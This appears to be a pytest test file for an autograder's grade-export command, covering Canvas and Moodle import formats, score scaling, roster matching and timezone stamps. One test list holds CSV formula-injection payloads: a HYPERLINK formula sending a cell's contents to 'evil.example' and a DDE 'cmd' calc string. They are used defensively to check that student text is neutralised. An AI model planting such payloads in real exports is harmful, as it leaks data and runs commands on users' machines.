"""``python -m autograder export``: Canvas's and Moodle's import formats and a plain one, one row per student."""

import csv
import dataclasses
import io
from datetime import datetime, timezone

import pytest

from autograder import catalogue, course
from autograder.__main__ import build_parser, main
from autograder.lms import export as export_module
from autograder.lms import moodle
from autograder.lms.export import ExportError, export
from autograder.lms.roster import read_roster
from autograder.outputs import tables
from autograder.outputs.totals import written_points
from autograder.points import load_points
from autograder.results import BatchResult, Row, StudentResult
from support.lms_importers import CanvasCourse, MoodleAssignment, MoodleRefused, canvas_import, moodle_import

WRITTEN = written_points()


def student(student_id, passed_groups, written=None, name="", lms_id=""):
    """A graded student who passed every test of ``passed_groups`` (all groups: "all")."""
    rows = []
    for name_, worth in load_points().items():
        group = course.group_of(name_)
        passed = passed_groups == "all" or group in passed_groups
        rows.append(Row(catalogue.Verdict(name_, group, False, "", "passed" if passed else "failed"),
                        worth if passed else 0.0, worth))
    return StudentResult(student_id, 0, rows, written=written, name=name, lms_id=lms_id)


@pytest.fixture
def graded(tmp_path):
    """An output folder of ``grade``: alice full marks (written answers graded, 20), bob the losses only
    (written answers not graded yet)."""
    out = tmp_path / "graded"
    out.mkdir()
    students = [student("alice", "all", written=20.0, name="Alice Smith", lms_id="1001"),
                student("bob", {"losses.svm_loss_naive"}, name="Bob Jones", lms_id="1002")]
    tables.write(BatchResult(students, out, "bubblewrap", "", 0, False), out)
    return out


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("student_id,lms_id,name,email,section,sis_user_id,sis_login_id\n"
                    "alice,1001,\"Smith, Alice\",alice@example.edu,A1,S001,asmith\n"
                    "bob,1002,\"Jones, Bob\",bob@example.edu,A1,S002,bjones\n"
                    "carol,1003,\"Wu, Carol\",carol@example.edu,A2,S003,cwu\n")
    return read_roster(path)


def rows_of(path):
    return list(csv.reader(io.StringIO(path.read_text())))


CANVAS_COURSE = CanvasCourse(assignments={1234: ("Loss optimization", 122.0), 77: ("Quiz 1", 10.0)},
                             students={1001: ("Alice Smith", "Smith, Alice", "S001", "asmith"),
                                       1002: ("Bob Jones", "Jones, Bob", "S002", "bjones"),
                                       1003: ("Carol Wu", "Wu, Carol", "S003", "cwu")})
COLUMN = "Loss optimization (1234)"


def test_canvas_imports_each_students_score_into_the_named_assignment_under_their_own_id(tmp_path, graded, roster):
    svm = sum(worth for name, worth in load_points().items() if name.startswith("losses.svm_loss_naive."))
    out = tmp_path / "canvas.csv"
    done = export(graded, "canvas", out, roster, part="code", assignment=COLUMN, max_grade=None)
    assert (done.count, done.absent) == (2, ["carol"])
    assert rows_of(out) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", COLUMN],
        ["Smith, Alice", "1001", "S001", "asmith", "A1", "100"],
        ["Jones, Bob", "1002", "S002", "bjones", "A1", f"{svm:g}"],
    ]
    imported = canvas_import(out.read_text(), CANVAS_COURSE)
    assert imported.rows == [(1001, {1234: "100"}), (1002, {1234: f"{svm:g}"})]
    assert imported.points == {}  # no Points Possible row: the assignment keeps its points


@pytest.mark.parametrize("assignment", [None, "Loss optimization", course.ASSIGNMENT])
def test_canvas_is_refused_a_column_that_would_create_a_new_assignment(tmp_path, graded, roster, assignment):
    with pytest.raises(ExportError, match="(create|creates) a new assignment.*Name \\(id\\)"):
        export(graded, "canvas", tmp_path / "canvas.csv", roster, part="code", assignment=assignment)
    assert not (tmp_path / "canvas.csv").exists()
    # Why: Canvas's importer reads a title without "(id)" that is no assignment's as a new assignment.
    text = f"Student,ID,SIS User ID,SIS Login ID,Section,{course.ASSIGNMENT}\nSmith,1001,,,A1,100\n"
    assert canvas_import(text, CANVAS_COURSE).rows == [(1001, {("new", course.ASSIGNMENT): "100"})]


def canvas_gradebook(path, points="122", ids=("1001", "1002", "1003")):
    """A gradebook as Canvas exports it (Grades > Export): student columns, assignments "Name (id)", totals."""
    lines = ["Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (77),Loss optimization (1234),Current Score,"
             "Final Score",
             f"    Points Possible,,,,,10,{points},(read only),(read only)"]
    lines += [f"Student {user},{user},S{user},login{user},A1,9,,90,90" for user in ids]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_canvas_gradebook_export_names_the_column_and_checks_its_points_and_students(tmp_path, graded, roster):
    gradebook = canvas_gradebook(tmp_path / "gradebook.csv")
    out = tmp_path / "canvas.csv"
    with pytest.raises(ExportError, match=r"'Loss optimization \(1234\)' is worth 122 points in Canvas .*"
                                          r"the export 100: give --max-grade 122"):
        export(graded, "canvas", out, roster, part="code", assignment="Loss optimization", canvas_gradebook=gradebook)
    done = export(graded, "canvas", out, roster, part="code", assignment="Loss optimization",
                  canvas_gradebook=gradebook, max_grade=122)
    assert done.notes == ["Scores scaled from 100 to the LMS's maximum grade 122."]
    imported = canvas_import(out.read_text(), CANVAS_COURSE)
    assert imported.rows[0] == (1001, {1234: "122"})
    with pytest.raises(ExportError, match="1 student has a Canvas user id that is no student of .*only-alice.csv: bob"):
        export(graded, "canvas", out, roster, part="code", force=True, assignment="Loss optimization",
               canvas_gradebook=canvas_gradebook(tmp_path / "only-alice.csv", points="100", ids=("1001",)))


def test_a_column_canvas_marks_read_only_is_refused_since_canvas_would_drop_it(tmp_path, graded, roster):
    gradebook = canvas_gradebook(tmp_path / "gradebook.csv", points="(read only)")
    with pytest.raises(ExportError, match="Canvas marks 'Loss optimization \\(1234\\)' read only"):
        export(graded, "canvas", tmp_path / "c.csv", roster, part="code", assignment="Loss optimization",
               canvas_gradebook=gradebook)


def test_a_canvas_gradebook_without_the_assignment_is_refused_naming_its_assignments(tmp_path, graded, roster):
    gradebook = canvas_gradebook(tmp_path / "gradebook.csv")
    with pytest.raises(ExportError, match=r"no assignment column named 'Homework 2' .*'Quiz 1 \(77\)', "
                                          r"'Loss optimization \(1234\)'"):
        export(graded, "canvas", tmp_path / "c.csv", roster, part="code", assignment="Homework 2",
               canvas_gradebook=gradebook)


NOW = datetime(2026, 12, 7, 1, 0, tzinfo=timezone.utc)


def moodle_assignment(language="en", max_grade=100.0, **kwargs):
    text = moodle.LANGUAGES[language]
    return MoodleAssignment(participants={1001: "alice-user", 1002: "bob-user"}, max_grade=max_grade,
                            strings=(text.identifier, text.participant, text.grade, text.modified), **kwargs)


@pytest.mark.parametrize("language", sorted(moodle.LANGUAGES))
def test_moodles_worksheet_importer_takes_every_students_own_grade_in_the_instructors_language(
        tmp_path, graded, language):
    svm = sum(worth for name, worth in load_points().items() if name.startswith("losses.svm_loss_naive."))
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code", max_grade=100, language=language, now=NOW,
           moodle_worksheet=moodle_worksheet(tmp_path / "worksheet.csv", language))
    written, skipped = moodle_import(out.read_text(encoding="utf-8"), moodle_assignment(language))
    assert (written, skipped) == ({"alice-user": 100.0, "bob-user": svm}, {})
    if language != "en":  # Moodle compares the columns with the uploader's language: English is refused there
        english = tmp_path / "english.csv"
        export(graded, "moodle", english, part="code", max_grade=100, now=NOW)
        with pytest.raises(MoodleRefused, match="invalidgradeimport"):
            moodle_import(english.read_text(), moodle_assignment(language))


def test_the_moodle_worksheet_names_participants_and_stamps_an_absolute_time(tmp_path, graded):
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code", max_grade=100, now=NOW)
    header, alice, bob = rows_of(out)
    assert header == ["Identifier", "Full name", "Email address", "Grade", "Maximum Grade", "Last modified (grade)"]
    assert alice == ["Participant 1001", "Alice Smith", "", "100", "100", "2026-12-07T01:00:00+00:00"]
    assert bob[0] == "Participant 1002"


@pytest.mark.parametrize("zone", ["UTC", "Asia/Tokyo", "America/Los_Angeles", "Pacific/Kiritimati"])
def test_no_server_zone_makes_the_worksheet_stale_for_a_grade_changed_before_the_export(tmp_path, graded, zone):
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code", max_grade=100, now=NOW)
    an_hour_before = NOW.timestamp() - 3600  # Moodle's grade for alice was changed an hour before the export
    current = {"alice-user": (50.0, an_hour_before)}
    written, skipped = moodle_import(out.read_text(), moodle_assignment(server_zone=zone, current=current))
    assert written["alice-user"] == 100.0 and skipped == {}
    # The old stamp (the grading machine's local time, without a zone) is read in the server's zone: in Tokyo
    # it is nine hours earlier, and Moodle skips alice without a word.
    old = out.read_text().replace("2026-12-07T01:00:00+00:00", f'"{NOW:%A, %d %B %Y, %I:%M %p}"')
    _, skipped = moodle_import(old, moodle_assignment(server_zone="Asia/Tokyo", current=current))
    assert skipped == {"alice-user": "grade has been modified in Moodle since"}


def test_moodle_is_given_scores_scaled_to_the_assignments_maximum_grade_which_it_checks_itself(tmp_path):
    out = tmp_path / "graded"
    out.mkdir()
    tables.write(BatchResult([student("ana", "all", written=8.0, lms_id="1001"),
                              student("bob", set(), written=20.0, lms_id="1002")], out, "bubblewrap", "", 0, False),
                 out)
    with pytest.raises(ExportError, match="Moodle ignores the worksheet's Maximum Grade.*--max-grade"):
        export(out, "moodle", tmp_path / "m.csv")
    # Unscaled, Moodle (maximum 100) skips 108/122 and files 20/122 as 20/100.
    plain = tmp_path / "plain.csv"
    export(out, "moodle", plain, max_grade=100 + WRITTEN, now=NOW)
    assert moodle_import(plain.read_text(), moodle_assignment())[1] == {"alice-user": "out of range"}
    done = export(out, "moodle", tmp_path / "m.csv", max_grade=100, now=NOW)
    assert done.notes == [f"Scores scaled from {100 + WRITTEN:g} to the LMS's maximum grade 100."]
    written, skipped = moodle_import((tmp_path / "m.csv").read_text(), moodle_assignment())
    assert written == {"alice-user": round(108 * 100 / (100 + WRITTEN), 2),
                       "bob-user": round(20 * 100 / (100 + WRITTEN), 2)} and skipped == {}


def test_a_total_is_exported_only_once_every_written_answer_is_graded(tmp_path, graded):
    with pytest.raises(ExportError, match=r"The written answers of 1 student is not graded yet \(bob\).*--part code"):
        export(graded, "canvas", tmp_path / "canvas.csv", assignment=COLUMN)
    assert not (tmp_path / "canvas.csv").exists()
    export(graded, "plain", tmp_path / "plain.csv")
    header, alice, bob = rows_of(tmp_path / "plain.csv")
    assert dict(zip(header, alice)) == {
        "student_id": "alice", "name": "Alice Smith", "email": "", "lms_id": "1001", "code": "100", "code_max": "100",
        "written": "20", "written_max": f"{WRITTEN:g}", "total": "120", "total_max": f"{100 + WRITTEN:g}",
        "late_percent": "0", "late_penalty": "0"}
    assert dict(zip(header, bob))["written"] == "" and dict(zip(header, bob))["total"] == ""


@pytest.mark.parametrize("form, lacking", [
    ("canvas", "no Canvas user id nor SIS id, so Canvas could find them only by name, perhaps as a namesake"),
    ("moodle", "no Moodle participant id, so Moodle could not find them"),
])
def test_a_student_known_by_a_folder_name_alone_is_named_and_nothing_written(tmp_path, form, lacking):
    """``dan`` came from a folder (``submitted/dan``): a course id, never written as an LMS id."""
    out = tmp_path / "graded"
    out.mkdir()
    tables.write(BatchResult([student("dan", "all", written=22.0)], out, "bubblewrap", "", 0, False), out)
    with pytest.raises(ExportError, match=f"1 student has {lacking}: dan. Give --roster"):
        export(out, form, tmp_path / "grades.csv", assignment=COLUMN, max_grade=100 + WRITTEN)
    assert not (tmp_path / "grades.csv").exists()


def test_the_command_refuses_an_existing_file_and_a_folder_that_was_not_graded(tmp_path, graded, capsys):
    (tmp_path / "grades.csv").write_text("keep")
    assert main(["export", str(graded), "--format", "plain", "--out", str(tmp_path / "grades.csv"),
                 "--gradebook", "none"]) == 2
    assert capsys.readouterr().err.startswith(f"export refused: --out {tmp_path / 'grades.csv'} exists: pass --force")
    assert (tmp_path / "grades.csv").read_text() == "keep"
    assert main(["export", str(tmp_path), "--format", "plain", "--out", str(tmp_path / "x.csv"),
                 "--gradebook", "none"]) == 2
    assert f"{tmp_path} has no totals.csv" in capsys.readouterr().err
    assert main(["export", str(graded), "--format", "plain", "--out", str(tmp_path / "grades.csv"), "--force",
                 "--gradebook", "none"]) == 0
    assert capsys.readouterr().out == f"wrote 2 students' totals to {tmp_path / 'grades.csv'} (plain)\n"


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "'=quoted"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_students_text_never_reaches_a_spreadsheet_as_a_formula_and_reads_back_unchanged(tmp_path, formula):
    out = tmp_path / "graded"
    out.mkdir()
    chosen = student(formula, "all", written=20.0, name=formula, lms_id="1001")
    failed = dataclasses.replace(chosen.rows[0].verdict, status="error", message=formula)
    chosen.rows[0] = Row(failed, 0.0, chosen.rows[0].max_score)
    tables.write(BatchResult([chosen], out, "bubblewrap", "", 0, False), out)
    export(out, "plain", tmp_path / "plain.csv")
    export(out, "moodle", tmp_path / "moodle.csv", max_grade=100 + WRITTEN)
    cells = [cell for name in ("grades.csv", "totals.csv", "seeds.csv") for row in rows_of(out / name)[1:]
             for cell in row]
    cells += [cell for name in ("plain.csv", "moodle.csv") for row in rows_of(tmp_path / name)[1:] for cell in row]
    assert [cell for cell in cells if formula in cell and not cell.startswith("'")] == []
    plain = rows_of(tmp_path / "plain.csv")[1]
    assert plain[:2] == ["'" + formula, "'" + formula]  # one quote more, which a spreadsheet does not show


@pytest.mark.parametrize("form, lms", [("canvas", "Canvas user id"), ("moodle", "Moodle participant id")])
def test_two_students_with_one_lms_id_are_refused_rather_than_one_overwriting_the_other(tmp_path, form, lms):
    out = tmp_path / "graded"
    out.mkdir()
    tables.write(BatchResult([student("ana", "all", written=8.0, lms_id="1001"),
                              student("bob", set(), written=20.0, lms_id="1001")], out, "bubblewrap", "", 0, False),
                 out)
    with pytest.raises(ExportError, match=f"ana and bob have the same {lms} 1001: one would overwrite the other's"):
        export(out, form, tmp_path / "grades.csv", assignment=COLUMN, max_grade=100 + WRITTEN)
    assert not (tmp_path / "grades.csv").exists()


def moodle_worksheet(path, language="en", participants=(1001, 1002)):
    """A grading worksheet as the assignment's "Download grading worksheet" writes it (the columns of
    mod/assign/gradingtable.php's download, the identifier as its col_recordid writes it)."""
    text = moodle.LANGUAGES[language]
    header = [text.identifier, "Full name", "Email address", "Status", text.grade, "Maximum Grade",
              "Grade can be changed", "Last modified (submission)", text.modified, "Feedback comments"]
    lines = [",".join(header)] + [f"{text.participant}{number},Someone,,Submitted,,100.00,Yes,-,-," for number in
                                  participants]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_downloaded_moodle_worksheet_checks_the_language_and_every_participant(tmp_path, graded):
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code", max_grade=100, moodle_worksheet=moodle_worksheet(tmp_path / "w.csv"))
    assert [row[0] for row in rows_of(out)[1:]] == ["Participant 1001", "Participant 1002"]
    with pytest.raises(ExportError, match=r"1 exported participant id is none of the assignment's .*: bob \(1002\)\. "
                                          "A team's group id needs the roster's group_id"):
        export(graded, "moodle", out, part="code", max_grade=100, force=True,
               moodle_worksheet=moodle_worksheet(tmp_path / "only-alice.csv", participants=(1001,)))
    with pytest.raises(ExportError, match=r"has no column 'Identifier', 'Grade', 'Last modified \(grade\)' \(its "
                                          r"columns: 'ID', .*Pass the --language your Moodle showed"):
        export(graded, "moodle", out, part="code", max_grade=100, force=True,
               moodle_worksheet=moodle_worksheet(tmp_path / "german.csv", language="de"))
    export(graded, "moodle", out, part="code", max_grade=100, force=True, language="de",
           moodle_worksheet=moodle_worksheet(tmp_path / "german.csv", language="de"))
    assert rows_of(out)[1][0] == "Teilnehmer/in1001"


def test_the_command_says_what_it_scaled_and_whom_the_roster_does_not_name(tmp_path, graded, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,lms_id,name\nalice,1001,Alice Smith\n")
    assert main(["export", str(graded), "--format", "moodle", "--out", str(tmp_path / "m.csv"), "--part", "code",
                 "--gradebook", "none", "--roster", str(roster), "--max-grade", "50", "--language", "fr",
                 "--moodle-worksheet", str(moodle_worksheet(tmp_path / "w.csv", "fr"))]) == 0
    captured = capsys.readouterr()
    assert captured.out == f"wrote 2 students' code points to {tmp_path / 'm.csv'} (moodle)\n"
    assert captured.err.splitlines() == [
        "1 graded student is not in the roster, exported under the LMS id of the download: bob.",
        "Scores scaled from 100 to the LMS's maximum grade 50."]
    assert [row[:4] for row in rows_of(tmp_path / "m.csv")][:2] == [
        ["Identifiant", "Full name", "Email address", "Note"], ["Participant1001", "Alice Smith", "", "50"]]


def test_the_sites_own_participant_prefix_from_its_worksheet_is_written_so_no_id_shifts(tmp_path, graded):
    """A site whose French pack writes "Participant " (a space more than ours): Moodle cuts 12 bytes, so our
    "Participant1001" would be read as participant 001, someone else."""
    sheet = moodle_worksheet(tmp_path / "w.csv", language="fr")
    sheet.write_text(sheet.read_text(encoding="utf-8").replace("\nParticipant", "\nParticipant "), encoding="utf-8")
    out = tmp_path / "moodle.csv"
    export(graded, "moodle", out, part="code", max_grade=100, language="fr", moodle_worksheet=sheet)
    assert [row[0] for row in rows_of(out)[1:]] == ["Participant 1001", "Participant 1002"]
    site = moodle_assignment("fr")
    site.strings = (site.strings[0], "Participant ", *site.strings[2:])
    svm = sum(worth for name, worth in load_points().items() if name.startswith("losses.svm_loss_naive."))
    assert moodle_import(out.read_text(encoding="utf-8"), site) == ({"alice-user": 100.0, "bob-user": svm}, {})
    # Without the worksheet (refused), the pack's "Participant" would have credited participant 1 with alice's grade.
    with pytest.raises(ExportError, match="--language fr needs --moodle-worksheet.*credits other participants"):
        export(graded, "moodle", out, part="code", max_grade=100, language="fr", force=True)
    export(graded, "moodle", out, part="code", max_grade=100, language="fr", force=True,
           moodle_worksheet=moodle_worksheet(tmp_path / "pack.csv", language="fr"))
    site.participants[1] = "carol-user"
    assert moodle_import(out.read_text(encoding="utf-8"), site)[0] == {"carol-user": 100.0}


@pytest.mark.parametrize("registry, option, entry, description, shown", [
    (export_module.FORMATS, "--format", "blackboard", "Grade Center > Work Offline > Upload",
     "blackboard (Grade Center > Work Offline > Upload)"),
    (export_module.PARTS, "--part", "written", "the written answers' points alone", "written: the written answers'"),
])
def test_an_entry_added_to_the_exports_registry_is_a_choice_of_the_command_line_and_in_its_help(
        monkeypatch, capsys, registry, option, entry, description, shown):
    monkeypatch.setitem(registry, entry, description)
    args = build_parser().parse_args(["export", "graded", "--format", "plain", "--out", "grades.csv", option, entry])
    assert getattr(args, option.lstrip("-")) == entry
    with pytest.raises(SystemExit):
        build_parser().parse_args(["export", "--help"])
    assert shown in " ".join(capsys.readouterr().out.split())


def test_a_language_added_to_moodles_strings_is_listed_by_the_export_help(monkeypatch, capsys):
    monkeypatch.setitem(moodle.LANGUAGES, "it", moodle.LANGUAGES["en"])
    with pytest.raises(SystemExit):
        build_parser().parse_args(["export", "--help"])
    assert "columns: en (default), de, fr, es, it" in " ".join(capsys.readouterr().out.split())
